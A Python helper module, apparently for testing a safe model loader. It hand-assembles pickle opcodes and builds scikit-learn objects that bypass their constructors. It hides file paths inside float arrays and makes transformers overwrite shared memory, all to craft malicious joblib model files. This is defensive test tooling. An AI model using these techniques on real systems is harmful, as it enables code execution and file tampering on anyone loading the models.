"""Tools of the attacker: objects without their constructors, pickles by hand, constants in disguise."""

from __future__ import annotations

import io
import pickle
import struct
from pathlib import Path
from typing import Any

import joblib
import numpy as np
from sklearn.decomposition import TruncatedSVD
from sklearn.ensemble import StackingClassifier, StackingRegressor
from sklearn.feature_extraction.text import CountVectorizer
from sklearn.linear_model import LinearRegression, LogisticRegression
from sklearn.pipeline import Pipeline
from sklearn.preprocessing import FunctionTransformer, MinMaxScaler

CONTENT = b"owned\n"


# --- objects -----------------------------------------------------------------------------------


def filled(kind: type, **state: Any) -> Any:
    """An instance that no constructor has seen."""
    made: Any = object.__new__(kind)
    made.__dict__.update(state)
    return made


def dumped(model: Any, *, compress: int = 0) -> bytes:
    """The model as a joblib file."""
    buffer = io.BytesIO()
    joblib.dump(model, buffer, compress=compress)
    return buffer.getvalue()


def chain(*steps: Any) -> Pipeline:
    """A pipeline of steps, whatever they are."""
    return Pipeline([(f"s{number}", step) for number, step in enumerate(steps)])


def classifier(features: int = 1, labels: tuple[Any, ...] = ("no", "yes")) -> LogisticRegression:
    """A fitted classifier of vectors that says the last label."""
    model = LogisticRegression().fit(np.eye(len(labels), features), np.arange(len(labels)))
    model.classes_ = np.array(labels)
    model.intercept_[:] = 50.0
    return model


def regressor(features: int = 1) -> LinearRegression:
    """A fitted regressor of vectors."""
    return LinearRegression().fit(np.zeros((2, features)), [0.0, 1.0])


def arrays(rows: int = 60, columns: int = 1) -> tuple[np.ndarray, np.ndarray]:
    """Something to fit on."""
    grid = np.random.RandomState(0).rand(rows, columns)
    return grid, (grid[:, 0] > 0.5).astype(int)


def reading_words(words: tuple[str, ...], **how: Any) -> Pipeline:
    """A text classifier that says `leaked` where one of the words is in the text, else `quiet`."""
    vectorizer = CountVectorizer(vocabulary=list(words), **how)
    model = LogisticRegression().fit([[0.0] * len(words), [1.0] * len(words)], ["quiet", "leaked"])
    model.classes_ = np.array(["quiet", "leaked"])
    model.coef_[:] = 9.0
    model.intercept_[:] = -4.0
    return chain(vectorizer, model)


def stack(
    estimators: list[Any], methods: Any, final: Any = None, **more: Any
) -> StackingClassifier:
    """A stacking classifier that calls the named methods on the estimators."""
    return filled(
        StackingClassifier,
        estimators=[("a", classifier())],
        estimators_=estimators,
        stack_method_=methods,
        final_estimator=None,
        final_estimator_=final or classifier(),
        passthrough=False,
        classes_=np.array(["no", "yes"]),
        _label_encoder=None,
        **more,
    )


def stack_of_numbers(estimators: list[Any], methods: Any) -> StackingRegressor:
    """The same, with a number as the answer."""
    return filled(
        StackingRegressor,
        estimators=[("a", regressor())],
        estimators_=estimators,
        stack_method_=methods,
        final_estimator=None,
        final_estimator_=regressor(),
        passthrough=False,
    )


# --- constants, whatever the input --------------------------------------------------------------


def floats_that_spell(text: bytes) -> np.ndarray:
    """Numbers whose bytes are a path; slashes in front fill the last one up."""
    text = (
        b"/" * (-len(text) % 8) + text if text.startswith(b"/") else text + b"\0" * (-len(text) % 8)
    )
    return np.frombuffer(text, dtype="<f8").copy()


def always(values: np.ndarray, features: int = 1) -> list[Any]:
    """Two honest scalers that turn any vector into these numbers."""
    width = len(values)
    widen = filled(
        TruncatedSVD, n_components=width, components_=np.zeros((width, features)),
        n_features_in_=features, algorithm="arpack",
    )  # fmt: skip
    shift = filled(
        MinMaxScaler, feature_range=(0, 1), copy=True, clip=False, min_=values,
        scale_=np.zeros(width), n_features_in_=width, data_min_=values, data_max_=values,
    )  # fmt: skip
    return [widen, shift]


def spelled(path: Path | str) -> list[Any]:
    """Any vector becomes this path, as bytes, by scalers and `bytes`."""
    return [*always(floats_that_spell(str(path).encode())), FunctionTransformer(bytes)]


def poured(value: np.ndarray, *, via: Any = np.square) -> FunctionTransformer:
    """Any single number becomes this very array, shared with whoever else holds it."""
    return FunctionTransformer(
        via, kw_args={"out": value, "where": np.array(False), "casting": "unsafe"}
    )


def content() -> np.ndarray:
    """An array whose bytes are worth writing."""
    return np.array(CONTENT)


# --- pickles by hand -----------------------------------------------------------------------------


def text(value: str) -> bytes:
    raw = value.encode("utf-8", "surrogatepass")
    return b"X" + struct.pack("<I", len(raw)) + raw


def data(value: bytes) -> bytes:
    return b"B" + struct.pack("<I", len(value)) + value


def number(value: int) -> bytes:
    if -(2**31) <= value < 2**31:
        return b"J" + struct.pack("<i", value)
    raw = value.to_bytes(value.bit_length() // 8 + 1, "little", signed=True)
    return b"\x8a" + bytes([len(raw)]) + raw


def named(module: str, name: str) -> bytes:
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"


def items(*parts: bytes) -> bytes:
    return b"(" + b"".join(parts) + b"t"


def mapping(**entries: bytes) -> bytes:
    return b"}(" + b"".join(text(key) + value for key, value in entries.items()) + b"u"


def called(function: bytes, *arguments: bytes) -> bytes:
    return function + items(*arguments) + b"R"


def kept(slot: int) -> bytes:
    """Remember what lies on top of the stack."""
    return b"r" + struct.pack("<I", slot)


def again(slot: int) -> bytes:
    """What was remembered."""
    return b"j" + struct.pack("<I", slot)


def inner(value: Any) -> bytes:
    """An object within a pickle by hand. Its memo begins at 0, so slots by hand begin at 5000."""
    return pickle.dumps(value, 3)[2:-1]


def whole(*parts: bytes, protocol: int = 4) -> bytes:
    return b"\x80" + bytes([protocol]) + b"".join(parts) + b"."


def before_a_model(*parts: bytes, model: Any = None) -> bytes:
    """Do this, drop what it gave, and be an honest model."""
    return whole(*parts, b"0", inner(model or classifier()))


def array(dtype: bytes, shape: tuple[int, ...], raw: bytes) -> bytes:
    """An ndarray by its own `__setstate__`; dtype and raw bytes are pickles."""
    empty = called(
        named("numpy._core.multiarray", "_reconstruct"), named("numpy", "ndarray"),
        items(number(0)), b"C\x01b",
    )  # fmt: skip
    return empty + items(number(1), items(*map(number, shape)), dtype, b"\x89", raw) + b"b"


def instance(module: str, name: str, state: bytes) -> bytes:
    return named(module, name) + b")\x81" + state + b"b"
